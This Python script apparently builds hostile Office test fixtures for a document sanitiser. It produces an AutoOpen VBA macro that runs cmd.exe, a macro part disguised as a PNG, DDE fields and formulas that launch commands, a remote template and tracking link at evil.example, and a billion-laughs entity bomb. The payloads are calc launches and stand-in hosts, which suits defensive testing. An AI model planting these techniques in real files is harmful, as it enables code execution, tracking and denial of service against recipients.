#!/usr/bin/env python3
"""Hostile OOXML documents built from clean ones made by LibreOffice.

Usage: make_hostile_office.py DOCX XLSX OUTDIR

  macro.docm        macro-enabled: vbaProject.bin with an AutoOpen macro
                    (Attribute VB_Name), vbaData.xml, custom UI, an ActiveX
                    control, an OLE embedding, a DDEAUTO field
  vba-plain.docx    a plain .docx (plain main type) carrying a vbaProject
                    part under an innocent name (word/media/image1.png,
                    declared image/png) and a vbaProject relationship to it
  remote-tpl.docx   remote template (attachedTemplate, TargetMode="External"),
                    an externally linked image and an external hyperlink
  dde.xlsx          a DDE formula (cmd|' /C calc'!A0) and an external link
  laughs.docx       billion laughs: a DTD with nested entities in document.xml
Every file keeps the clean document's Japanese text.
"""
import os
import re
import sys
import zipfile

VBA = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 +
       b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
       b'    Shell "cmd.exe /c calc.exe"\r\nEnd Sub\r\n')
NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSR = "http://schemas.microsoft.com/office/2006/relationships"


def read(path):
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def write(path, parts):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def add_override(parts, name, ctype):
    ct = parts["[Content_Types].xml"].decode()
    ct = ct.replace("</Types>", f'<Override PartName="/{name}" ContentType="{ctype}"/></Types>')
    parts["[Content_Types].xml"] = ct.encode()


def add_default(parts, ext, ctype):
    ct = parts["[Content_Types].xml"].decode()
    ct = ct.replace("</Types>", f'<Default Extension="{ext}" ContentType="{ctype}"/></Types>')
    parts["[Content_Types].xml"] = ct.encode()


def add_rel(parts, rels_name, rid, rtype, target, external=False):
    if rels_name not in parts:
        parts[rels_name] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                            b'<Relationships xmlns="http://schemas.openxmlformats.org/'
                            b'package/2006/relationships"></Relationships>')
    mode = ' TargetMode="External"' if external else ""
    r = parts[rels_name].decode()
    r = r.replace("</Relationships>",
                  f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'
                  "</Relationships>")
    parts[rels_name] = r.encode()


def add_body(parts, xml):
    d = parts["word/document.xml"].decode()
    i = d.rfind("<w:sectPr")
    if i < 0:
        i = d.rfind("</w:body>")
    parts["word/document.xml"] = (d[:i] + xml + d[i:]).encode()


def set_main_type(parts, old, new):
    ct = parts["[Content_Types].xml"].decode().replace(old, new)
    parts["[Content_Types].xml"] = ct.encode()


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def macro_docm(docx, out):
    p = read(docx)
    set_main_type(p, WORD_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    p["word/vbaProject.bin"] = VBA
    add_default(p, "bin", "application/vnd.ms-office.vbaProject")
    add_rel(p, "word/_rels/document.xml.rels", "rIdVba", MSR + "/vbaProject", "vbaProject.bin")
    p["word/vbaData.xml"] = (b'<?xml version="1.0" encoding="UTF-8"?><wne:vbaSuppData '
                             b'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
                             b'<wne:mcds><wne:mcd wne:macroName="PROJECT.THISDOCUMENT.AUTOOPEN"/>'
                             b'</wne:mcds></wne:vbaSuppData>')
    add_override(p, "word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    add_rel(p, "word/_rels/vbaProject.bin.rels", "rId1", MSR + "/wordVbaData", "vbaData.xml")
    p["customUI/customUI.xml"] = (b'<customUI xmlns="http://schemas.microsoft.com/office/2006/'
                                  b'01/customui" onLoad="AutoOpen"/>')
    add_rel(p, "_rels/.rels", "rIdUi", MSR + "/ui/extensibility", "customUI/customUI.xml")
    p["word/activeX/activeX1.xml"] = (b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/'
                                      b'2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-'
                                      b'00AA006002F3}" ax:persistence="persistStreamInit" '
                                      b'r:id="rId1" xmlns:r="' + NS_R.encode() + b'"/>')
    p["word/activeX/activeX1.bin"] = VBA
    add_override(p, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    add_override(p, "word/activeX/activeX1.bin", "application/vnd.ms-office.activeX")
    add_rel(p, "word/_rels/document.xml.rels", "rIdAx", NS_R + "/control", "activeX/activeX1.xml")
    p["word/embeddings/oleObject1.bin"] = VBA
    add_override(p, "word/embeddings/oleObject1.bin",
                 "application/vnd.openxmlformats-officedocument.oleObject")
    add_rel(p, "word/_rels/document.xml.rels", "rIdOle", NS_R + "/oleObject",
            "embeddings/oleObject1.bin")
    add_body(p, '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:'
                'office" Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r>'
                '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space='
                '"preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText>'
                '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE結果</w:t>'
                '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                '<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; "><w:r><w:t>'
                '簡易DDE</w:t></w:r></w:fldSimple></w:p>')
    write(out, p)


def vba_plain(docx, out):
    p = read(docx)
    p["word/media/image1.png"] = VBA
    add_override(p, "word/media/image1.png", "image/png")
    add_rel(p, "word/_rels/document.xml.rels", "rIdVba", MSR + "/vbaProject", "media/image1.png")
    add_rel(p, "word/_rels/document.xml.rels", "rIdImg", NS_R + "/image", "media/image1.png")
    write(out, p)


def remote_tpl(docx, out):
    p = read(docx)
    s = p["word/settings.xml"].decode()
    s = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', s, count=1)
    if 'xmlns:r=' not in s:
        s = s.replace("<w:settings ", f'<w:settings xmlns:r="{NS_R}" ', 1)
    p["word/settings.xml"] = s.encode()
    add_rel(p, "word/_rels/settings.xml.rels", "rIdTpl", NS_R + "/attachedTemplate",
            "http://evil.example/template.dotm", external=True)
    add_rel(p, "word/_rels/document.xml.rels", "rIdLink", NS_R + "/image",
            "http://evil.example/track.png", external=True)
    add_rel(p, "word/_rels/document.xml.rels", "rIdHref", NS_R + "/hyperlink",
            "http://evil.example/phish", external=True)
    add_body(p, '<w:p><w:hyperlink r:id="rIdHref"><w:r><w:t>リンク文字</w:t></w:r></w:hyperlink>'
                '</w:p>')
    write(out, p)


def dde_xlsx(xlsx, out):
    p = read(xlsx)
    s = p["xl/worksheets/sheet1.xml"].decode()
    s = s.replace("</sheetData>", '<row r="9"><c r="A9" t="str"><f>cmd|\' /C calc\'!A0</f>'
                  '<v>DDE</v></c></row></sheetData>')
    p["xl/worksheets/sheet1.xml"] = s.encode()
    p["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>')
    add_override(p, "xl/externalLinks/externalLink1.xml",
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    add_rel(p, "xl/_rels/workbook.xml.rels", "rIdExt", NS_R + "/externalLink",
            "externalLinks/externalLink1.xml")
    add_rel(p, "xl/externalLinks/_rels/externalLink1.xml.rels", "rId1",
            NS_R + "/externalLinkPath", "file:///C:/secret/book.xlsx", external=True)
    w = p["xl/workbook.xml"].decode()
    w = w.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rIdExt"/>'
                  '</externalReferences>', 1)
    p["xl/workbook.xml"] = w.encode()
    write(out, p)


def laughs(docx, out):
    p = read(docx)
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    d = p["word/document.xml"].decode()
    d = d.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
                  f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [{ents}]>', 1)
    d = d.replace("無害化テスト文書です。", "無害化テスト文書です。&lol9;", 1)
    p["word/document.xml"] = d.encode()
    write(out, p)


def main():
    docx, xlsx, out = sys.argv[1:4]
    os.makedirs(out, exist_ok=True)
    macro_docm(docx, os.path.join(out, "macro.docm"))
    vba_plain(docx, os.path.join(out, "vba-plain.docx"))
    remote_tpl(docx, os.path.join(out, "remote-tpl.docx"))
    dde_xlsx(xlsx, os.path.join(out, "dde.xlsx"))
    laughs(docx, os.path.join(out, "laughs.docx"))


if __name__ == "__main__":
    main()
